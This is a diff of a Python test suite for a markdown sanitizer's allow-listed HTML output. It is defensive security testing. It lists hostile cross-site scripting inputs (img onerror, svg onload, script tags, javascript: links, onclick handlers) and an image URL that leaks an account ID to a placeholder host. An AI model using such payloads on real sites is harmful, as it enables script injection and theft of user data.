@@ -1,12 +1,17 @@
-"""SECURITY.md row 11: answer text renders as inert markdown (no HTML, no remote images/links)."""
+"""SECURITY.md row 11: answer text renders as allow-listed HTML (no raw HTML, no images, no
+remote links), checked on the HTML itself: every tag, attribute and URL in the output is parsed
+and held against the allow-lists, so a sanitizer that lets anything through fails here.
+"""
 
 from __future__ import annotations
 
+from html.parser import HTMLParser
+
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from app.ui.sanitize import is_inert, link_allowed, sanitize_markdown
+from app.ui.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, link_allowed, sanitize_markdown
 
 HOSTILE = [
     "<img src=x onerror=alert(1)>",
@@ -29,54 +34,112 @@ HOSTILE = [
     "[x](https://a/(b)) and ![y](https://a/(c))",
     "[[nested](https://x)](https://y)",
     "[ref link][1]\n\n[1]: https://evil.example/",
+    '<a href="https://www.sec.gov/" onclick="steal()">ok</a>',
+    "<svg onload=alert(1)><style>body{background:url(https://x/)}</style>",
+    "```\n</code><script>alert(1)</script>\n```",
+    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:1) | ![i](https://x/) |",
 ]
 
 
+class _Elements(HTMLParser):
+    """Every start tag with its attributes, and the text, of an HTML fragment."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str]]] = []
+        self.text: list[str] = []
+        self.comments: list[str] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, {k: v or "" for k, v in attrs}))
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        self.comments.append(data)
+
+
+def assert_inert(markup: str) -> _Elements:
+    """The properties row 11 asks for, on the sanitizer's output."""
+    parsed = _Elements(markup)
+    lowered = markup.lower()
+    assert "<script" not in lowered and "<img" not in lowered and "<iframe" not in lowered
+    assert "<style" not in lowered and "<svg" not in lowered
+    assert parsed.comments == []
+    for tag, attrs in parsed.tags:
+        assert tag in ALLOWED_TAGS, (tag, markup)
+        for name, value in attrs.items():
+            assert not name.startswith("on"), (tag, name, markup)
+            assert name == "rel" or name in ALLOWED_ATTRIBUTES.get(tag, set()), (tag, name)
+            assert name != "src", (tag, markup)  # no tag may load anything
+            if name == "href":
+                assert link_allowed(value), (value, markup)
+            if name == "style":
+                assert value.startswith("text-align:") and "url(" not in value, value
+            assert "javascript:" not in value.lower() and "data:" not in value.lower()
+    return parsed
+
+
 @pytest.mark.parametrize("text", HOSTILE)
-def test_hostile_answers_become_inert(text: str) -> None:
+def test_hostile_answers_render_only_allow_listed_html(text: str) -> None:
     safe = sanitize_markdown(text)
-    assert safe.inert, safe.text
-    assert is_inert(safe.text)
-    assert "evil.example/" not in safe.text.replace("(link removed)", "")
-    assert "<" not in safe.text.replace("&lt;", "")
-    assert "](javascript" not in safe.text.lower()
+    parsed = assert_inert(safe.html)
+    assert "evil.example/" not in "".join(parsed.text)
+    assert "javascript:" not in "".join(parsed.text).lower()
 
 
-def test_img_onerror_is_escaped_not_rendered() -> None:
+def test_img_onerror_is_shown_as_text_not_rendered() -> None:
     safe = sanitize_markdown("Revenue rose <img src=x onerror=alert(1)> strongly")
-    assert safe.text == "Revenue rose &lt;img src=x onerror=alert(1)> strongly"
-    from markdown_it import MarkdownIt
-
-    html = MarkdownIt("commonmark", {"html": True}).render(safe.text)
-    assert "<img" not in html and "&lt;img" in html
+    assert safe.html == "<p>Revenue rose &lt;img src=x onerror=alert(1)&gt; strongly</p>\n"
 
 
 def test_exfiltrating_image_is_removed_with_a_note() -> None:
     safe = sanitize_markdown("Summary ![chart](https://x.example/?q=ACCOUNT-123) done")
-    assert safe.text == "Summary [image removed: chart] done"
+    assert safe.html == "<p>Summary [image removed: chart] done</p>\n"
     assert safe.removed == ("image https://x.example/?q=ACCOUNT-123",)
-    assert "ACCOUNT-123" not in safe.text
 
 
 def test_allow_listed_link_is_kept_and_others_lose_only_the_url() -> None:
     text = "See [the 10-K](https://www.sec.gov/a.htm) and [this](https://evil.example/)."
     safe = sanitize_markdown(text)
-    assert safe.text == "See [the 10-K](https://www.sec.gov/a.htm) and this (link removed)."
-    assert sanitize_markdown(text, link_hosts=()).text.count("(link removed)") == 2
+    assert safe.html == (
+        '<p>See <a href="https://www.sec.gov/a.htm" rel="noopener noreferrer nofollow">the 10-K</a>'
+        " and this (link removed).</p>\n"
+    )
+    assert safe.removed == ("link https://evil.example/",)
+    assert "<a " not in sanitize_markdown(text, link_hosts=()).html
 
 
-def test_dollar_amounts_are_not_latex_and_code_is_untouched() -> None:
+def test_dollar_amounts_and_code_are_text() -> None:
     safe = sanitize_markdown("Revenue $211.9bn vs $198.3bn; run `SELECT '<x>' AS $a`")
-    assert safe.text == r"Revenue \$211.9bn vs \$198.3bn; run `SELECT '<x>' AS $a`"
+    assert safe.html == (
+        "<p>Revenue $211.9bn vs $198.3bn; run <code>SELECT '&lt;x&gt;' AS $a</code></p>\n"
+    )
 
 
-def test_markdown_structure_survives() -> None:
-    text = "**Bold** answer [1]\n\n- item one\n- item two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
-    assert sanitize_markdown(text).text == text
+def test_markdown_structure_still_renders() -> None:
+    text = (
+        "## Result\n\n**Bold** *it* ~~old~~ answer [1]\n\n- item one\n- item two\n\n"
+        "3. three\n\n> quoted\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n```\ncode\n```"
+    )
+    markup = sanitize_markdown(text).html
+    parsed = assert_inert(markup)
+    tags = [t for t, _ in parsed.tags]
+    for tag in ("h2", "strong", "em", "s", "ul", "li", "ol", "blockquote", "table", "th", "td"):
+        assert tag in tags, (tag, markup)
+    assert "<pre><code>code\n</code></pre>" in markup
+    assert '<th style="text-align:right">a</th>' in markup
+    assert '<ol start="3">' in markup
 
 
 def test_invisible_and_bidi_characters_are_stripped() -> None:
-    assert sanitize_markdown("a\u202eb\u200bc\U000e0041d").text == "abcd"
+    assert sanitize_markdown("a\u202eb\u200bc\U000e0041d").html == "<p>abcd</p>\n"
 
 
 @pytest.mark.parametrize(
@@ -94,13 +157,35 @@ def test_link_allowed(url: str, ok: bool) -> None:
     assert link_allowed(url) is ok
 
 
-@given(st.text(alphabet=st.sampled_from(list("![]()<>:/ajvscripthtx.=\"'`$@&#;\n ")), max_size=60))
-def test_any_text_sanitizes_to_something_inert_or_is_flagged(text: str) -> None:
-    safe = sanitize_markdown(text)
-    # Either the markdown is inert, or the caller is told to fall back to plain text.
-    assert safe.inert == is_inert(safe.text)
-    if safe.inert:
-        assert "<" not in safe.text.replace("&lt;", "") or "`" in safe.text
+PIECES = [
+    "<img src=x onerror=alert(1)>",
+    "<script>",
+    "</script>",
+    "<a href='https://evil.example/'>",
+    "[x](javascript:alert(1))",
+    "![i](https://x.example/p)",
+    "<https://evil.example/>",
+    "[ok](https://www.sec.gov/)",
+    "&#106;avascript:",
+    "`",
+    "```\n",
+    "\n\n",
+    "| a |\n|---|\n",
+    "**",
+    "[",
+    "](",
+    ")",
+    "<",
+    ">",
+    "text ",
+    '" onmouseover="x',
+]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(PIECES), max_size=12))
+def test_any_mix_of_hostile_pieces_renders_only_allow_listed_html(pieces: list[str]) -> None:
+    assert_inert(sanitize_markdown("".join(pieces)).html)
 
 
 @pytest.mark.parametrize(
